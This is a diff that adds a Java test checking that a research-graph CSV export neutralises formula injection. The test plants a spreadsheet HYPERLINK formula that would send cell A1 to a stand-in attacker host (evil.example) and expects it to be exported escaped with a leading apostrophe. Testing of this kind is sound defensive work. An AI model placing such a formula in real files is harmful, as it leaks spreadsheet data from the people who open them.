@@ -84,6 +84,28 @@ class ResearchExportTests {
 	}
 
 	@Test
+	void aCuratorsTextThatASpreadsheetWouldRunIsExportedInert() throws Exception {
+		try {
+			this.neo4j.query("MATCH (c:Conference {slug: 'astana-2023'}) SET c.note = $note, c.testFigure = $figure")
+				.bindAll(Map.of("note", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "figure", "-12.5"))
+				.run();
+			Map<String, List<Map<String, String>>> files = new HashMap<>();
+			try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(get("/export/csv")))) {
+				for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
+					files.put(entry.getName(), read(zip.readAllBytes()));
+				}
+			}
+			assertThat(files.get("nodes/Conference.csv")).anySatisfy(row -> assertThat(row)
+				.containsEntry("id", "Conference:astana-2023")
+				.containsEntry("note", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
+				.containsEntry("testFigure", "-12.5"));
+		}
+		finally {
+			this.neo4j.query("MATCH (c:Conference {slug: 'astana-2023'}) REMOVE c.note, c.testFigure").run();
+		}
+	}
+
+	@Test
 	void theGraphmlExportIsAGraphThatAnXmlParserReads() throws Exception {
 		Document graphml = DocumentBuilderFactory.newDefaultNSInstance().newDocumentBuilder()
 			.parse(new ByteArrayInputStream(get("/export/graphml")));
